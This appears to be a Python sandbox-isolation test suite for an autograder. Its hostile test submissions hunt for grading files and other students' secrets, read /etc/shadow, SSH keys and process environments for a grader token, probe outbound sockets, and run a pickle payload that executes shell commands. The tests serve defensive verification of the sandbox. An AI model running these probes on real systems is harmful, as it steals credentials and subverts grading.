"""Submissions that look for what is not theirs."""

from hostile import HONEST, hostile

FIND = """
import os
import targets
def readable(path, size=200_000):
    try:
        with open(path, "rb") as file: return file.read(size)
    except OSError: return b""
def everything(*but):
    for where, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(where, name) not in ("/proc", "/usr", *but)]
        for name in files: yield os.path.join(where, name)
"""


@hostile(HONEST, says="TRIED")
def reads_the_checks(place):
    """looks for the checks, the grades and the tests: by name, and by where they are"""
    place.server(
        FIND
        + f"""
wanted = {{"test_m1_http.py", "digits.npz", "grading.py", "gradebook.py", "gradebook.csv"}}
import sys
for path in everything():
    if os.path.basename(path) in wanted: print("STOLEN:", path)
for path in ({str(place.path.parent)!r}, targets.GRADES, {__file__!r}):
    if os.path.exists(path): print("STOLEN:", path)
try:
    import checks.kit.digits
    print("STOLEN: the digits")
except ImportError: print("TRIED")
"""
    )


@hostile(HONEST, says="TRIED")
def reads_another_students_work(place):
    """looks for a neighbour's file by its path, and for its words in all that can be read"""
    place.server(
        FIND
        + """
if readable(targets.NEIGHBOUR): print("STOLEN: by its path")
own = ("/.submission/targets.py", "/submission/targets.py")
for path in everything("/dev"):
    if path not in own and not path.endswith((".so", ".pyc")) and "/lib/python" not in path:
        if targets.SECRET.encode() in readable(path): print("STOLEN:", path)
print("TRIED")
"""
    )


@hostile(HONEST, says="TRIED")
def reads_etc_shadow(place):
    """reads the passwords, the users and the keys of this machine"""
    place.server(
        FIND
        + """
for path in ("/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_ed25519_key", "/root/.bashrc", "/proc/kcore",
             "/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow", "/dev/vda", "/dev/sda", "/dev/mem",
             "/var/run/docker.sock", "/run/systemd/private", "/proc/sysrq-trigger"):
    if readable(path, 10): print("STOLEN:", path)
if len(readable("/etc/passwd").splitlines()) > 1: print("STOLEN: users")
print("TRIED")
"""
    )


@hostile(HONEST, says="TRIED")
def reads_the_key_of_the_grader(place):
    """reads the environment of every process and of its own, the key file, and inherited files"""
    place.server(
        FIND
        + """
found = readable(targets.KEY_FILE)
for name in os.listdir("/proc"):
    if name.isdigit():
        found += readable(f"/proc/{name}/environ") + readable(f"/proc/{name}/cmdline").replace(b"\\0", b" ")
for name in range(3, 1024):
    try: os.fstat(name); print("STOLEN: open file", name)
    except OSError: pass
if b"GRADER_TOKEN" in found or b"checks.grade" in found: print("STOLEN:", found)
if any("GRADER_TOKEN" in name for name in os.environ): print("STOLEN: environment")
print("TRIED")
"""
    )


@hostile(HONEST, says="TRIED")
def calls_out_to_the_network(place):
    """TCP, UDP, DNS, IPv6, raw and vsock sockets, abstract and other Unix sockets, this machine's ports"""
    place.server("""
import socket
import targets
def tries(what, call):
    try: call(); print("STOLEN:", what)
    except OSError: pass
def tcp(family, address):
    with socket.socket(family) as one: one.settimeout(1); one.connect(address)
def udp(address):
    with socket.socket(type=socket.SOCK_DGRAM) as one: one.sendto(b"STOLEN", address)
tries("TCP", lambda: tcp(socket.AF_INET, ("192.0.2.1", 80)))
tries("TCP 1.1.1.1", lambda: tcp(socket.AF_INET, ("1.1.1.1", 53)))
tries("TCP 6", lambda: tcp(socket.AF_INET6, ("2001:db8::1", 80)))
tries("this machine", lambda: tcp(socket.AF_INET, ("127.0.0.1", targets.PORT)))
tries("abstract", lambda: tcp(socket.AF_UNIX, "\\0" + targets.ABSTRACT))
tries("D-Bus", lambda: tcp(socket.AF_UNIX, "/run/dbus/system_bus_socket"))
tries("UDP", lambda: udp(("192.0.2.1", 53)))
tries("broadcast", lambda: udp(("255.255.255.255", 53)))
tries("DNS", lambda: socket.getaddrinfo("example.com", 80))
tries("packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tries("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tries("vsock", lambda: socket.socket(40))
print("TRIED")
""")


@hostile(HONEST, says="TRIED")
def pickle_that_runs_code(place):
    """its model is a pickle that runs a shell, reads /etc/shadow and writes outside"""
    place.server(f"""
import pickle
class Model:
    def __reduce__(self):
        import os
        return os.system, ("cat /etc/shadow && echo STOLEN; echo x > {place.targets.marker}; echo TRIED",)
pickle.loads(pickle.dumps(Model()))
""")
